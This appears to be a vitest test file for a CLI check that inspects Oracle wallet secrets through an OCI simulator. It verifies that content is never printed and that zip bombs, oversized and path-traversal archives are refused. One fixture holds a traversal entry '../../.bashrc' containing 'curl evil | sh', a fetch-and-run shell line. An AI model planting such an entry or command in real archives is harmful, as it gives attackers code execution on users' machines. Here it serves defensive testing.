// secret.wallet through the full simulator: a signed GetSecretBundle with the
// real oci-secrets client, the fixture's policies deciding access, and the
// content recognised and inspected in memory — never printed.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import forge from 'node-forge';
import { apiKeyFingerprint } from '../../src/core/fingerprint.js';
import { writeOciHome } from '../../src/sim/home.js';
import { startSimulator } from '../../src/sim/index.js';
import type { RunningSimulator } from '../../src/sim/http/server.js';
import { generateRsaKey, healthyTenancy, IDS } from '../../src/sim/tenancy.js';
import { runCli } from '../helpers/cli.js';
import { fakeSystem, tempDir } from '../helpers/deps.js';
import { DAY_MS, testClient, walletFiles, walletZip } from '../helpers/wallet.js';
import { buildZip } from '../helpers/zip.js';
import type { JsonReport } from '../../src/core/report/json.js';

type Doc = JsonReport;

const secretId = (n: number): string => `ocid1.vaultsecret.oc1.iad.aaaaaaaatestsecret${String(n).padStart(32, '0')}`;
const b64 = (b: Buffer | string): string => Buffer.from(b).toString('base64');

const healthyZip = walletZip(walletFiles({ readmeExpiry: new Date(Date.now() + 200 * DAY_MS) }));
const expiredZip = walletZip(walletFiles({ readmeExpiry: new Date(Date.now() - 5 * DAY_MS) }));
const bomb = buildZip([{ name: 'README', data: Buffer.alloc(60 * 1024 * 1024) }]);
const traversal = buildZip([{ name: 'README', data: 'x' }, { name: '../../.bashrc', data: 'curl evil | sh' }]);
const client = testClient();
const p12 = Buffer.from(forge.asn1.toDer(forge.pkcs12.toPkcs12Asn1(forge.pki.privateKeyFromPem(client.keyPem), [forge.pki.certificateFromPem(client.certPem)], 'pw', { algorithm: '3des' })).getBytes(), 'binary');

const SECRETS: { id: string; name: string; state: string; content: Buffer | string; compartmentId?: string }[] = [
  { id: secretId(1), name: 'zip', state: 'ACTIVE', content: healthyZip },
  { id: secretId(2), name: 'pending', state: 'PENDING_DELETION', content: healthyZip },
  { id: secretId(3), name: 'sso', state: 'ACTIVE', content: Buffer.from('a1f84e36000000060000002100000000', 'hex') },
  { id: secretId(4), name: 'p12', state: 'ACTIVE', content: p12 },
  { id: secretId(5), name: 'pem', state: 'ACTIVE', content: walletFiles()['ewallet.pem'] as string },
  { id: secretId(6), name: 'garbage', state: 'ACTIVE', content: 'just a database password, not a wallet' },
  { id: secretId(7), name: 'bomb', state: 'ACTIVE', content: bomb },
  { id: secretId(8), name: 'traversal', state: 'ACTIVE', content: traversal },
  { id: secretId(9), name: 'expired', state: 'ACTIVE', content: expiredZip },
  { id: secretId(10), name: 'twice', state: 'ACTIVE', content: b64(healthyZip) },
  { id: secretId(11), name: 'elsewhere', state: 'ACTIVE', content: healthyZip, compartmentId: IDS.prod },
  { id: secretId(12), name: 'huge', state: 'ACTIVE', content: Buffer.alloc(11 * 1024 * 1024, 7) },
];

let sim: RunningSimulator;
let home: string;

beforeAll(async () => {
  const key = generateRsaKey();
  const fixture = healthyTenancy(key.publicKeyPem);
  for (const s of SECRETS) fixture.secrets.push({ id: s.id, name: s.name, vaultId: IDS.vault, compartmentId: s.compartmentId ?? IDS.finance, state: s.state, contentBase64: b64(s.content) });
  sim = await startSimulator(fixture);
  home = tempDir();
  writeOciHome(home, [{ name: 'DEFAULT', mode: 'api_key', tenancy: IDS.tenancy, user: IDS.alice, region: 'us-ashburn-1', fingerprint: apiKeyFingerprint(key.publicKeyPem), privateKeyPem: key.privateKeyPem }]);
});
afterAll(() => sim.close());

async function doctor(id: string, argv: string[] = []): Promise<{ codes: string[]; check: Doc['checks'][number] | undefined; stdout: string }> {
  const out = await runCli(['--format', 'json', '--only', 'secret.wallet', '--wallet-secret-id', id, '--endpoint', `identity=${sim.url}`, '--endpoint', `secrets=${sim.url}`, ...argv], { system: fakeSystem({ homeDir: home }), now: () => new Date() });
  const doc = JSON.parse(out.stdout) as Doc;
  const check = doc.checks.find((c) => c.id === 'secret.wallet');
  return { codes: (check?.findings ?? []).filter((f) => f.severity !== 'info').map((f) => f.code), check, stdout: out.stdout };
}

const content = (check: Doc['checks'][number] | undefined) => check?.findings.find((f) => f.code === 'secret.content')?.evidence ?? {};

describe('secret.wallet', () => {
  it('an ACTIVE secret holding a whole wallet zip: inspected in memory, files and expiry listed, content never printed', async () => {
    const { codes, check, stdout } = await doctor(secretId(1));
    expect(codes).toEqual([]);
    expect(check?.status).toBe('pass');
    const ev = content(check);
    expect(ev.type).toBe('wallet zip');
    expect(ev.size).toBe(`${healthyZip.length} bytes`);
    expect(ev.fingerprint).toMatch(/^sha256:[0-9a-f]{12}$/);
    expect(ev.files).toBe('ewallet.pem, tnsnames.ora, sqlnet.ora, cwallet.sso, ojdbc.properties, README');
    expect(ev.aliases).toBe('ledger_high, ledger_medium, ledger_low');
    expect(ev.expires).toMatch(/in 200 days/);
    expect(stdout).not.toContain(b64(healthyZip).slice(0, 40));
    expect(stdout).not.toMatch(/BEGIN (RSA )?PRIVATE KEY|BEGIN CERTIFICATE/);
  });

  // The real answer for a secret pending deletion is not documented: both plausible forms, neither naming the state.
  it('PENDING_DELETION answered 409 IncorrectState: secret.not-active, with the commands to read the state and cancel the deletion', async () => {
    sim.ctx.fixture.service = { inactiveSecret: 'incorrect-state' };
    const { codes, check } = await doctor(secretId(2));
    expect(codes).toEqual(['secret.not-active']);
    const f = check?.findings[0];
    expect(f?.title).toBe('The secret is not ACTIVE (409 IncorrectState): its content cannot be read');
    expect(f?.evidence.answer).toBe('409 IncorrectState: The resource is not in a valid state for this operation.');
    // Reading the state changes nothing; cancelling the deletion is the fix.
    expect(f?.fix.inspect).toEqual([`oci vault secret get --secret-id ${secretId(2)} --query 'data."lifecycle-state"'`]);
    expect(f?.fix.commands).toEqual([`oci vault secret cancel-secret-deletion --secret-id ${secretId(2)}`]);
  });

  it('PENDING_DELETION answered 404 NotAuthorizedOrNotFound: secret.unreadable, naming pending deletion among the causes and the command to tell', async () => {
    sim.ctx.fixture.service = { inactiveSecret: 'not-found' };
    try {
      const { codes, check } = await doctor(secretId(2));
      expect(codes).toEqual(['secret.unreadable']);
      const f = check?.findings[0];
      expect(f?.evidence.answer).toBe('404 NotAuthorizedOrNotFound: Authorization failed or requested resource not found.');
      expect(f?.detail).toMatch(/pending deletion/);
      expect(f?.fix.inspect).toEqual([`oci vault secret get --secret-id ${secretId(2)} --query 'data."lifecycle-state"'`]);
      expect(f?.fix.commands).toEqual([]);
    } finally {
      delete sim.ctx.fixture.service;
    }
  });

  it('an unknown OCID, and a secret no policy lets the caller read: both secret.unreadable (404)', async () => {
    for (const id of [secretId(99), secretId(11)]) {
      const { codes, check } = await doctor(id);
      expect(codes).toEqual(['secret.unreadable']);
      expect(check?.findings[0]?.evidence.answer).toMatch(/^404 NotAuthorizedOrNotFound/);
    }
  });

  it('a cwallet.sso (unconfirmed by its magic), a PKCS#12 and a PEM wallet are recognised', async () => {
    expect(content((await doctor(secretId(3))).check).type).toMatch(/^auto-login wallet \(cwallet\.sso\) \(unconfirmed: first bytes a1 f8 4e/);
    expect(content((await doctor(secretId(4))).check).type).toBe('PKCS#12 key store (ewallet.p12)');
    const pem = await doctor(secretId(5));
    expect(pem.codes).toEqual([]);
    expect(content(pem.check).type).toBe('PEM (a private key + 2 certificates)');
    expect(pem.stdout).not.toMatch(/BEGIN (RSA )?PRIVATE KEY/);
  });

  it('unrecognised content: secret.unrecognised-content, the content not echoed', async () => {
    const { codes, stdout } = await doctor(secretId(6));
    expect(codes).toEqual(['secret.unrecognised-content']);
    expect(stdout).not.toContain('just a database password');
  });

  it('a zip bomb in the secret: secret.too-large, refused without unpacking', async () => {
    const started = performance.now();
    const { codes, check } = await doctor(secretId(7));
    expect(codes).toEqual(['secret.too-large']);
    expect(check?.findings[0]?.evidence.refused).toBe('zip-bomb');
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it('more than 10 MB of content: secret.too-large before decoding', async () => {
    const { codes, check } = await doctor(secretId(12));
    expect(codes).toEqual(['secret.too-large']);
    expect(check?.findings[0]?.title).toMatch(/about 11\.0 MB/);
  });

  it('a zip with a path-traversal entry: refused, naming the entry', async () => {
    const { codes, check } = await doctor(secretId(8));
    expect(codes).toEqual(['secret.unrecognised-content']);
    expect(check?.findings[0]?.title).toContain("entry '../../.bashrc' has a '..' segment");
  });

  it('an expired wallet zip: secret.wallet-expired', async () => {
    expect((await doctor(secretId(9))).codes).toEqual(['secret.wallet-expired']);
  });

  it('a wallet base64-encoded twice is named as such', async () => {
    const { codes, check } = await doctor(secretId(10));
    expect(codes).toEqual(['secret.unrecognised-content']);
    expect(check?.findings[0]?.title).toBe('The secret holds base64 text, not the file: base64 text of wallet zip');
  });

  it('skips itself without --wallet-secret-id, and under --offline', async () => {
    const out = await runCli(['--format', 'json', '--only', 'secret.wallet', '--endpoint', `identity=${sim.url}`], { system: fakeSystem({ homeDir: home }), now: () => new Date() });
    expect((JSON.parse(out.stdout) as Doc).checks.find((c) => c.id === 'secret.wallet')).toMatchObject({ status: 'skip', summary: 'no --wallet-secret-id given' });
    const offline = await doctor(secretId(1), ['--offline']);
    expect(offline.check?.status).toBe('skip');
  });
});

describe('admin connection password secret (state only)', () => {
  async function runAdmin(state?: 'ACTIVE' | 'PENDING_DELETION' | 'DELETED') {
    const { startSimulator } = await import('../../src/sim/index.js');
    const { healthyTenancy, generateRsaKey, IDS } = await import('../../src/sim/tenancy.js');
    const { writeOciHome } = await import('../../src/sim/home.js');
    const { apiKeyFingerprint } = await import('../../src/core/fingerprint.js');
    const { runCli } = await import('../helpers/cli.js');
    const { fakeSystem, tempDir } = await import('../helpers/deps.js');
    const k = generateRsaKey();
    const fixture = healthyTenancy(k.publicKeyPem);
    const secret = fixture.secrets.find((s) => s.id === IDS.adminPasswordSecret)!;
    secret.contentBase64 = Buffer.from('CANARY-admin-password-123').toString('base64');
    if (state) secret.state = state;
    const sim = await startSimulator(fixture);
    try {
      const home = tempDir();
      writeOciHome(home, [{ name: 'DEFAULT', mode: 'api_key', tenancy: IDS.tenancy, user: IDS.alice, region: 'us-ashburn-1', fingerprint: apiKeyFingerprint(k.publicKeyPem), privateKeyPem: k.privateKeyPem }]);
      const endpoints = ['identity', 'dbtools', 'secrets'].flatMap((s) => ['--endpoint', `${s}=${sim.url}`]);
      const out = await runCli(['--format', 'json', '--only', 'secret.admin-password', '--admin-dbtools-connection-id', IDS.adminDbtools, ...endpoints], { system: fakeSystem({ homeDir: home }), now: () => new Date() });
      return { out, check: JSON.parse(out.stdout).checks.find((c: { id: string }) => c.id === 'secret.admin-password') };
    } finally {
      await sim.close();
    }
  }

  it('reports an active secret without showing its content', async () => {
    const { out, check } = await runAdmin();
    expect(check.status).toBe('pass');
    expect(check.summary).toMatch(/^active \(version \d+, content not read out\)$/);
    expect(out.stdout).not.toContain('CANARY-admin');
  });

  it('secret.admin-password-unusable when the secret is pending deletion, with the command to cancel it', async () => {
    const { check } = await runAdmin('PENDING_DELETION');
    expect(check.findings.map((f: { code: string }) => f.code)).toEqual(['secret.admin-password-unusable']);
    // The fix is the cancel; reading the state is a command to look with.
    expect(check.findings[0].fix.commands).toEqual([expect.stringMatching(/^oci vault secret cancel-secret-deletion --secret-id /)]);
    expect(check.findings[0].fix.inspect).toEqual([expect.stringMatching(/^oci vault secret get --secret-id .* --query 'data."lifecycle-state"'$/)]);
  });
});
